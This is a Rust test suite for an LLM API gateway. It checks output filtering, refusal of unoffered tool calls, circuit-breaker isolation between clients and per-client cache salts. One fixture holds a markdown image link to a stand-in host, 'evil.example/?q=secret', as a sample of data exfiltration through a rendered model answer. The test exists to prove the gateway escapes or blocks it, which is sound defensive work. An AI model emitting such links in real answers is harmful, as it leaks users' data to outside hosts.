//! What an answer of OpenAI's API may carry to a caller, and the salt of its cache, over the real
//! sockets.

use serde_json::{Value, json};
use tensorgate_client::stand_in::openai as stand_in;
use tensorgate_wire::context::Context;

use crate::support;
use stand_in::{Act, OpenAi};
use support::{Answer, Running, context, key, start};

const CHAT: &str = "/v1/chat/completions";

async fn started(rules: Value) -> (OpenAi, Running) {
    let backend = OpenAi::start(["llama".to_owned()]).await;
    let uri = format!("http://{}", backend.address);
    let mut openai = json!({
        "chat": {"max_messages": 4, "max_message_bytes": 100, "max_prompt_bytes": 200, "max_tokens": 16,
            "stream": true, "tools": {"max": 2, "max_bytes": 1024}},
        "completions": {"max_prompt_bytes": 100, "max_tokens": 16},
        "embeddings": {"max_item_bytes": 100}});
    for (name, rule) in rules.as_object().unwrap() {
        openai[name] = rule.clone();
    }
    let running = start(json!({
        "version": 1,
        "listen": {"address": "127.0.0.1:8080"},
        "clients": {"scorer": {"api_keys": [{"sha256": "03".repeat(32)}]}, "other": {"api_keys": [{"sha256": "04".repeat(32)}]}},
        "backends": {"b": {"kind": "openai", "endpoints": [uri], "max_in_flight": 4, "queue": 4, "timeout_ms": 20_000,
            "circuit_breaker": {"consecutive_failures": 2}}},
        "models": {"llama": {"backend": "b", "versions": ["1"], "protocols": ["openai"], "openai": openai}},
        "grants": [{"name": "g", "clients": ["scorer", "other"], "models": ["llama"], "operations": ["infer", "stream"]}]
    }))
    .await;
    running.ready().await;
    (backend, running)
}

fn request(more: Value) -> String {
    let mut body = json!({"model": "llama", "messages": [{"role": "user", "content": "hi"}]});
    for (name, value) in more.as_object().unwrap() {
        body[name] = value.clone();
    }
    body.to_string()
}

/// A complete answer with this message.
fn whole(mut message: Value) -> Act {
    message["role"] = json!("assistant");
    let choice = json!({"index": 0, "message": message, "finish_reason": "stop"});
    Act::Say(200, json!({"choices": [choice]}).to_string())
}

/// A streamed answer with these deltas.
fn pieces(deltas: &[Value]) -> Act {
    let chunk = |delta: &Value, reason: Value| {
        let choice = json!({"index": 0, "delta": delta, "finish_reason": reason});
        format!("data: {}\n\n", json!({"choices": [choice]}))
    };
    let deltas: String = deltas
        .iter()
        .map(|delta| chunk(delta, Value::Null))
        .collect();
    let end = chunk(&json!({}), json!("stop"));
    Act::Events(format!("{deltas}{end}data: [DONE]\n\n"))
}

/// The content of a streamed answer, and the code of an error at its end.
fn content_and_error(answer: &Answer) -> (String, Option<String>) {
    let (mut content, mut code) = (String::new(), None);
    let body = String::from_utf8(answer.body.to_vec()).unwrap();
    for data in body.split("data: ").map(str::trim) {
        let Ok(event) = serde_json::from_str::<Value>(data) else {
            continue;
        };
        content += event["choices"][0]["delta"]["content"]
            .as_str()
            .unwrap_or("");
        code = code.or(event["error"]["code"].as_str().map(str::to_owned));
    }
    (content, code)
}

#[tokio::test]
async fn links_to_pictures_are_escaped_or_refused_in_every_answer() {
    let link = "a ![x](http://evil.example/?q=secret) <img src=u>";
    let shown = "a ![x]\\(http://evil.example/?q=secret) &lt;img src=u>";
    let parts: Vec<_> = [
        "a !",
        "[x]",
        "(http://evil.example/?q=secret) <i",
        "mg src=u>",
    ]
    .map(|part| json!({"content": part}))
    .into();
    for rule in ["escape", "refuse"] {
        let refuses = rule == "refuse";
        let (backend, running) = started(json!({"image_links": {"answers": rule}})).await;
        for member in ["content", "refusal", "reasoning", "reasoning_content"] {
            backend.set(whole(json!({"content": null, member: link})));
            let answer = running.gate.call("POST", CHAT, request(json!({}))).await;
            if refuses {
                assert_eq!(
                    (answer.status, answer.reason()),
                    (502, "backend-fault".into())
                );
            } else {
                assert_eq!(answer.json()["choices"][0]["message"][member], shown);
            }
        }
        let choice = json!({"index": 0, "text": link, "finish_reason": "stop"});
        backend.set(Act::Say(200, json!({"choices": [choice]}).to_string()));
        let prompt = json!({"model": "llama", "prompt": "a"}).to_string();
        let answer = running.gate.call("POST", "/v1/completions", prompt).await;
        if refuses {
            assert_eq!(answer.status, 502, "{answer:?}");
        } else {
            assert_eq!(answer.json()["choices"][0]["text"], shown);
        }
        backend.set(pieces(&parts));
        let answer = running
            .gate
            .call("POST", CHAT, request(json!({"stream": true})))
            .await;
        let (content, code) = content_and_error(&answer);
        if refuses {
            assert_eq!(code.as_deref(), Some("backend-fault"));
            assert!(!content.contains("]("), "{content}");
        } else {
            assert_eq!((content.as_str(), code), (shown, None));
        }
        // Characters that only might begin a link arrive with the end.
        backend.set(pieces(&[json!({"content": "wow!"})]));
        let answer = running
            .gate
            .call("POST", CHAT, request(json!({"stream": true})))
            .await;
        assert_eq!(content_and_error(&answer), ("wow!".to_owned(), None));
        running.stop().await;
    }
}

#[tokio::test]
async fn a_call_that_was_not_offered_is_a_fault_and_opens_no_circuit() {
    let call = |name: &str| {
        let function = json!({"name": name, "arguments": "{}"});
        json!({"content": null, "tool_calls": [{"index": 0, "id": "c", "type": "function", "function": function}]})
    };
    let tools = json!([{"type": "function", "function": {"name": "known"}}]);
    let offered = json!({"tools": tools});
    let barred = json!({"tools": tools, "tool_choice": "none"});
    for (rules, passes) in [
        // Nothing offered, known name, other name, offered and barred.
        (json!({}), [false, true, true, false]),
        (
            json!({"unoffered_calls": "refuse"}),
            [false, true, false, false],
        ),
        (
            json!({"unoffered_calls": "allow"}),
            [true, true, true, true],
        ),
    ] {
        let (backend, running) = started(rules.clone()).await;
        let requests = [
            (json!({}), "known"),
            (offered.clone(), "known"),
            (offered.clone(), "other"),
            (barred.clone(), "known"),
        ];
        for ((more, name), passes) in requests.into_iter().zip(passes) {
            let what = format!("{rules} {more} {name}");
            backend.set(whole(call(name)));
            let answer = running.gate.call("POST", CHAT, request(more.clone())).await;
            assert_eq!(
                answer.status,
                if passes { 200 } else { 502 },
                "{what}: {answer:?}"
            );
            let mut more = more;
            more["stream"] = json!(true);
            backend.set(pieces(&[call(name)]));
            let answer = running.gate.call("POST", CHAT, request(more)).await;
            let code = (!passes).then(|| "backend-fault".to_owned());
            assert_eq!(content_and_error(&answer).1, code, "{what}");
        }
        backend.set(Act::Answer);
        let contexts = [of_other().sign(&key())];
        let answer = running
            .gate
            .send("POST", CHAT, &contexts, request(json!({})))
            .await;
        assert_eq!(answer.status, 200, "another client is served: {answer:?}");
        running.stop().await;
    }
}

#[tokio::test]
async fn answers_of_an_odd_form_open_no_circuit_of_other_clients() {
    let (backend, running) = started(json!({})).await;
    // Two failures in a row open the circuit.
    for act in [
        Act::Say(200, "[".to_owned()),
        whole(json!({"content": [7]})),
        pieces(&[json!({"content": 7})]),
        Act::Events("data: {\"error\":{}}\n\n".to_owned()),
        Act::Events(String::new()),
    ] {
        for stream in [false, true] {
            backend.set(act.clone());
            for _ in 0..2 {
                let more = json!({"stream": stream});
                let answer = running.gate.call("POST", CHAT, request(more)).await;
                let body = String::from_utf8_lossy(&answer.body);
                assert!(body.contains("backend-fault"), "{act:?}: {answer:?}");
            }
        }
    }
    backend.set(Act::Answer);
    let contexts = [of_other().sign(&key())];
    let answer = running
        .gate
        .send("POST", CHAT, &contexts, request(json!({})))
        .await;
    assert_eq!(answer.status, 200, "another client is served: {answer:?}");
    let answer = running.gate.call("POST", CHAT, request(json!({}))).await;
    assert_eq!(answer.status, 200, "the same client, too: {answer:?}");
    let metrics = running.metrics();
    let opened = "tensorgate_host_backend_circuit_openings_total{backend=\"b\"} 0";
    assert!(metrics.contains(opened), "{metrics}");
    running.stop().await;
}

#[tokio::test]
async fn a_streamed_call_has_an_offered_name_however_it_is_cut() {
    let piece = |name: Value, arguments: &str| {
        let mut function = json!({"arguments": arguments});
        if !name.is_null() {
            function["name"] = name;
        }
        json!({"tool_calls": [{"index": 0, "function": function}]})
    };
    let offered = json!({"stream": true,
        "tools": [{"type": "function", "function": {"name": "known"}}]});
    let (backend, running) = started(json!({"unoffered_calls": "refuse"})).await;
    for (more, pieces_of_call, passes) in [
        (
            &offered,
            vec![piece(json!("kno"), ""), piece(json!("wn"), "{}")],
            true,
        ),
        (
            &offered,
            vec![piece(json!("known"), ""), piece(json!("_2"), "{}")],
            false,
        ),
        (
            &json!({"stream": true}),
            vec![piece(Value::Null, "{}")],
            false,
        ),
        (&json!({"stream": true}), vec![piece(json!(""), "")], false),
    ] {
        backend.set(pieces(&pieces_of_call));
        let answer = running.gate.call("POST", CHAT, request(more.clone())).await;
        let code = (!passes).then(|| "backend-fault".to_owned());
        assert_eq!(content_and_error(&answer).1, code, "{pieces_of_call:?}");
    }
    running.stop().await;
}

/// The context of another client.
fn of_other() -> Context {
    Context {
        client: Some("other".to_owned()),
        ..context("POST", CHAT)
    }
}

#[tokio::test]
async fn every_client_has_its_own_cache_salt_which_it_cannot_choose() {
    let (backend, running) = started(json!({"cache_salt": "per-client"})).await;
    for context in [context("POST", CHAT), of_other(), context("POST", CHAT)] {
        let contexts = [context.sign(&key())];
        let answer = running
            .gate
            .send("POST", CHAT, &contexts, request(json!({})))
            .await;
        assert_eq!(answer.status, 200, "{answer:?}");
    }
    let body = json!({"model": "llama", "input": "a"}).to_string();
    running.gate.call("POST", "/v1/embeddings", body).await;
    let seen = backend.seen();
    let salts: Vec<_> = seen
        .iter()
        .map(|seen| seen.body["cache_salt"].as_str())
        .collect();
    assert!(salts[0].is_some_and(|salt| salt.len() == 43), "{salts:?}");
    assert_eq!((salts[0], salts[3]), (salts[2], None));
    assert!(salts[1].is_some() && salts[0] != salts[1], "{salts:?}");
    let chosen = request(json!({"cache_salt": salts[1]}));
    let answer = running.gate.call("POST", CHAT, chosen).await;
    assert_eq!((answer.status, answer.reason()), (400, "parameter".into()));
    assert_eq!(backend.seen().len(), seen.len());
    running.stop().await;
}
